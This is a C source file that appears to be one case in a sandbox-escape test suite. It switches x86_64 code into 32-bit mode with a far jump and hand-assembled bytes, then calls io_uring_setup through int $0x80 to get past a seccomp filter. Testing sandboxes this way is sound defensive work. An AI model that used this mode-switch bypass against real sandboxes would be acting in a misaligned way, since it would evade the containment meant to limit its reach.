/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Tries to: make an io_uring from code that the processor runs in 32-bit mode
 * Promise:  kernel-surface
 * Oracle:   held fd anon_inode:\[io_uring\]
 * Stops:    seccomp=seccomp
 * Because:  a far jump changes the mode without a system call
 */
#include <sys/mman.h>

#include "attacks/attack.h"

#ifndef MAP_32BIT
#define MAP_32BIT 0 /* this machine has no such flag */
#endif

#define NR_IO_URING_SETUP 425

/* Jump to the page in 32-bit mode, make the call there, and come back. */
static long call(unsigned char *page, long nr, long a, const void *low)
{
	long r = -ENOSYS;

#if defined(__x86_64__)
	static const unsigned char code[] = {
		0xcd, 0x80,                            /* int $0x80 */
		0xea, 0,    0,    0,    0,    0x33, 0, /* ljmp $0x33, page + 16 */
		0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90,
		0x4c, 0x89, 0xe4, /* page + 16, 64-bit: mov %r12, %rsp */
		0x41, 0xff, 0xe5, /* jmp *%r13 */
	};
	uint32_t back = (uint32_t)(uintptr_t)page + 16;
	struct {
		uint32_t offset;
		uint16_t segment;
	} far = {(uint32_t)(uintptr_t)page, 0x23};

	memcpy(page, code, sizeof(code));
	memcpy(page + 3, &back, sizeof(back));
	__asm__ volatile("mov %%rsp, %%r12\n\t"
	                 "lea 1f(%%rip), %%r13\n\t"
	                 "ljmp *(%[far])\n"
	                 "1:"
	                 : "=a"(r)
	                 : "a"(nr), "b"(a), "c"(low), [far] "D"(&far)
	                 : "memory", "cc", "r8", "r9", "r10", "r11", "r12", "r13", "r14",
	                   "r15");
	r = (int)r;
#else
	(void)page, (void)nr, (void)a, (void)low;
#endif
	errno = r < 0 ? (int)-r : 0;
	return r;
}

ATTACK(io_uring_from_a_32_bit_segment)
{
	unsigned char *page = mmap(NULL, 8192, PROT_READ | PROT_WRITE | PROT_EXEC,
	                           MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

	if (page == MAP_FAILED)
		attack_stopped("mmap");
	else if (call(page, NR_IO_URING_SETUP, 4, page + 4096) < 0)
		attack_stopped("io_uring_setup");
	else
		attack_hold();
	return 0;
}
